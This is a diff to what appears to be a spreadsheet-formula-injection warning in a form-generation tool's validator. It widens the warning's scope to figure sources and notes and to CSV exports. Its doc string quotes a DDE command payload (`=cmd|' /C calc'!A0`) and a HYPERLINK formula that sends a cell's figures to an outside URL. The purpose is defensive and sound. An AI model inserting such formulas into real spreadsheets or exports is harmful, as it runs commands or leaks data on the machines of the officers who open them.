@@ -484,8 +484,9 @@ _add("formula-text", WARNING, "plans", "a name or title that a spreadsheet would
          "reword it so that it does not begin with that character; `xhht form` writes it as text, but pasted "
          "into another spreadsheet it may become a formula (a link that sends the figures away, or a command)"),
      doc="A plan's title, document number and issuer, group titles, indicator names and levels, and the names "
-         "in `areas.csv`, and a standard's title, document, result, criteria, indicator names and levels, "
-         "reach every commune's form, `evaluate`'s workbook and the spreadsheets officers copy them into. One that "
+         "in `areas.csv`, a standard's title, document, result, criteria, indicator names and levels, and the "
+         "`source` and `note` of a figure in `data/` reach every commune's form, `evaluate`'s workbook, the "
+         "spreadsheets officers copy them into and the CSV files they open in a spreadsheet. One that "
          "begins with `=`, `+`, `-`, `@` (or a tab, a line break, or their full-width forms) is a formula or "
          "a DDE call there: `=cmd|' /C calc'!A0`, `=HYPERLINK(\"http://…\"&D3,\"Bấm vào đây\")`. The "
          "forms xhht writes hold such text as text (a string cell with the quote prefix), so the warning is "
